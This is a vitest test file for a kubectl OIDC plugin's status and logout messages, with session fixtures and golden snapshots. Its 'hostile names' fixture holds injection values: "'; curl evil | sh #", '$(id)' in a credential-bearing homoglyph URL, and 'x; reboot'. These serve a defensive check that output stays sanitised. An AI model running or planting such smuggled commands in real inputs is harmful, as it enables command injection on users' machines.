import { resolve } from "node:path";
import { describe, expect, it } from "vitest";
import { countLine, logoutLines, type Told } from "../../src/cli/logout-text.ts";
import type { SessionContext, StoredSession } from "../../src/cli/sessions.ts";
import { type Found, remedyLines, stateOf, statusTable, verdictLine } from "../../src/cli/status-text.ts";
import { rfc3339 } from "../../src/core/exec-credential.ts";
import { sessionKey } from "../../src/core/keys.ts";
import type { SessionIdentity, SessionRecord } from "../../src/core/session.ts";
import { OidcError } from "../../src/errors/oidc-error.ts";
import { hostileTexts } from "../fakes/hostile-texts.ts";

const golden = (name: string) => resolve(import.meta.dirname, name);
const at = (time: string) => Date.parse(time) / 1000;
const now = at("2026-11-23T13:22:00Z");
const folder = "/home/ann/.local/share/kubectl-oidc";

const identityOf = (more: Partial<SessionIdentity> = {}): SessionIdentity => ({
  issuer: "https://id.example.com",
  clientId: "kubernetes",
  scopes: [],
  grant: "person",
  extraParams: [],
  storage: "keyring",
  ...more,
});
const contextOf = (name: string, identity: SessionIdentity): SessionContext => ({
  name,
  key: sessionKey(identity),
  folder,
  identity,
  audiences: [],
  gathered: { sources: [], server: undefined, context: undefined, looked: [], strict: undefined },
});
function stored(contexts: readonly string[], record: Partial<SessionRecord> = {}, more: Partial<SessionIdentity> = {}): StoredSession {
  const identity = identityOf(more);
  return {
    record: {
      schema: 1,
      key: sessionKey(identity),
      identity,
      itemName: "item",
      hasRefreshToken: true,
      subject: "1",
      displayName: "ann@example.com",
      loggedInAt: "2026-11-20T08:00:00Z",
      tokenExpiresAt: "2026-11-23T14:05:00Z",
      ...record,
    },
    folder,
    contexts: contexts.map((name) => contextOf(name, identity)),
  };
}

const over = { hasRefreshToken: false, tokenExpiresAt: "2026-11-23T10:00:00Z" };
const none: Found = { sessions: [], without: [], unusable: [], unreadable: undefined, current: undefined, kubeconfig: undefined, now, pausedUntil: () => undefined };
const bob = identityOf({ account: "bob@example.com" });
const machine = { grant: "client-credentials", clientId: "pipeline" };
const hostile = hostileTexts.map((text) => text.slice(0, 60));

const states: Readonly<Record<string, Partial<Found>>> = {
  "nothing stored, and no context of ours": {},
  "nothing stored, and a kubeconfig that cannot be read": {
    unreadable: new OidcError("KUBECONFIG_UNREADABLE", { message: "the kubeconfig /home/ann/.kube/config cannot be read", reason: "it is not valid YAML (line 2)" }),
  },
  "the current context cannot be used": {
    sessions: [stored([], {}, { account: "ann@example.com" }), stored([], { displayName: "bob@example.com" }, { account: "bob@example.com" })],
    unusable: [{ name: "prod", error: new OidcError("SETTINGS_INCOMPLETE", { message: "several sessions match, and --account names none: ann@example.com, bob@example.com" }) }],
    current: "prod",
  },
  "nothing stored; two contexts that share a session, and one of another": {
    current: "prod",
    without: [[contextOf("prod", identityOf()), contextOf("staging", identityOf())], [contextOf("bob's", bob)]],
  },
  "one session, active": { current: "prod", sessions: [stored(["prod", "staging"])] },
  "one session, refreshable": { current: "prod", sessions: [stored(["prod"], { tokenExpiresAt: "2026-11-23T09:00:00Z" })] },
  "one session, expired": { current: "prod", sessions: [stored(["prod"], over)] },
  "one session, whose token has a few seconds left": { current: "prod", sessions: [stored(["prod"], { ...over, tokenExpiresAt: "2026-11-23T13:22:09Z" })] },
  "one session, expired, and logins paused": { current: "prod", sessions: [stored(["prod"], over)], pausedUntil: () => now + 290 },
  "not logged in, and logins paused": { current: "prod", without: [[contextOf("prod", identityOf())]], pausedUntil: () => now + 9.5 },
  "active without a refresh token": { current: "prod", sessions: [stored(["prod"], { hasRefreshToken: false, offlineRefused: true })] },
  "a machine's session": {
    current: "ci",
    sessions: [stored(["ci"], over, machine)],
    without: [[contextOf("ci-2", identityOf({ ...machine, issuer: "https://other.example.com" }))]],
  },
  "stored nowhere": { current: "prod", without: [[contextOf("prod", identityOf({ storage: "none" }))]] },
  "several: works, needs a login, is used by no context; one context cannot be used": {
    current: "dev",
    sessions: [
      stored(["prod"]),
      stored(["dev"], { ...over, displayName: "bob@example.com" }, { account: "bob@example.com", scopes: ["email", "groups"], storage: "disk" }),
      stored([], {}, { issuer: "https://old.example.com", acrValues: "mfa", directory: "/srv/store" }),
    ],
    unusable: [{ name: "lab", error: new OidcError("SETTINGS_INVALID", { message: "context lab: unknown option --oidc-isuer-url" }) }],
  },
  "the current context is not ours": { sessions: [stored(["prod"]), stored(["dev"], over, { clientId: "dev" })] },
  "no kubeconfig: what a script uses": { sessions: [stored([], over, { scopes: ["groups"], storage: "helper:pass", directory: "/srv/my store" })] },
  "a session whose parameters are not known any more": { sessions: [stored([], over, { extraParams: ["kc_idp_hint=0123456789abcdef"] })] },
  "with --kubeconfig": { current: "prod", kubeconfig: "/etc/kube config", without: [[contextOf("prod", identityOf())]] },
  "hostile names": {
    current: hostile[0],
    sessions: [
      stored(hostile.slice(0, 3), { ...over, displayName: hostile[3] ?? "" }, { issuer: "https://us\u0456r:pass@ex\u0430mple.com/$(id)", clientId: "'; curl evil | sh #" }),
    ],
    without: [hostile.slice(3).map((name) => contextOf(name, bob)) as [SessionContext, ...SessionContext[]]],
    unusable: [{ name: "x; reboot", error: new OidcError("SETTINGS_INVALID", { message: "context x: bad" }) }],
  },
};

/** stderr, stdout and stderr again, as a terminal shows them. */
function shown(found: Found): string {
  const said = (line: string) => `kubectl-oidc: ${line}\n`;
  return `${said(verdictLine(found))}${statusTable(found)}${remedyLines(found).map(said).join("")}`;
}

describe("status", () => {
  it("has a verdict, the facts and the cures in every state", async () => {
    const texts = Object.entries(states).map(([title, found]) => `# ${title}\n${shown({ ...none, ...found })}`);
    await expect(texts.join("\n")).toMatchFileSnapshot(golden("status.txt"));
  });
  it("calls no token active that get-token would not hand out any more (M6)", () => {
    const state = (left: number, hasRefreshToken: boolean) => stateOf(stored([], { hasRefreshToken, tokenExpiresAt: rfc3339(now + left) }).record, now);
    expect([state(10, true), state(9, true), state(10, false), state(9, false), state(-1, false)]).toEqual(["active", "refreshable", "active", "expired", "expired"]);
  });
  it("shows one line a session, however hostile its names", () => {
    const text = shown({ ...none, ...states["hostile names"] });
    expect(text.split("\n").filter((line) => line !== "" && !line.startsWith("kubectl-oidc: "))).toHaveLength(2);
    expect(text).not.toContain("pass@");
    const safe = /^kubectl oidc [a-z]+(?: --[a-z-]+=(?:'[^'\\!]*'|[\w@+=:,./-]+)| --context NAME)*$/;
    for (const line of text.split("\n").filter((line) => line.includes("run: "))) expect(line.split("run: ").at(-1)).toMatch(safe);
  });
});

const told = ({ outcome, ...more }: Partial<Omit<Told, "outcome">> & { readonly outcome: Partial<Told["outcome"]> }): Told => ({
  identity: identityOf(),
  account: "ann@example.com",
  place: "the OS keychain",
  contexts: ["prod", "staging"],
  kubeconfig: undefined,
  forgotServers: false,
  sso: false,
  now,
  ...more,
  outcome: { result: "revoked", hadRefreshToken: true, tokensGoodUntil: undefined, servers: [], ...outcome },
});
const servers = [{ origin: "https://k8s.example.com:6443", authority: "system" }];

const logouts: Readonly<Record<string, Told>> = {
  revoked: told({ outcome: { servers, tokensGoodUntil: at("2026-11-23T14:05:00Z") } }),
  "revoked, with --sso": told({ outcome: {}, sso: true }),
  "not revoked": told({ outcome: { result: "deleted" }, contexts: ["prod"] }),
  "without a refresh token": told({ outcome: { result: "deleted", hadRefreshToken: false }, contexts: [] }),
  "a machine's": told({ outcome: { result: "deleted", hadRefreshToken: false }, identity: identityOf(machine), account: undefined, contexts: ["ci"] }),
  "with --all": told({ outcome: { servers }, forgotServers: true, contexts: [] }),
  "a second time": told({ outcome: { result: "nothing", hadRefreshToken: false, servers }, account: undefined }),
  "a second time, with --all --context prod": told({ outcome: { result: "nothing", hadRefreshToken: false, servers }, account: undefined, forgotServers: true }),
};

it("logout says what is gone, and what remains", async () => {
  const texts = Object.entries(logouts).map(([title, one]) => `# ${title}\n${logoutLines(one).join("\n")}\n`);
  const counts = [
    { of: 0, done: 0, revoked: 0 },
    { of: 1, done: 1, revoked: 1 },
    { of: 3, done: 2, revoked: 1 },
  ].map(countLine);
  await expect(`${texts.join("\n")}\n# how --all ends\n${counts.join("\n")}\n`).toMatchFileSnapshot(golden("logout.txt"));
});
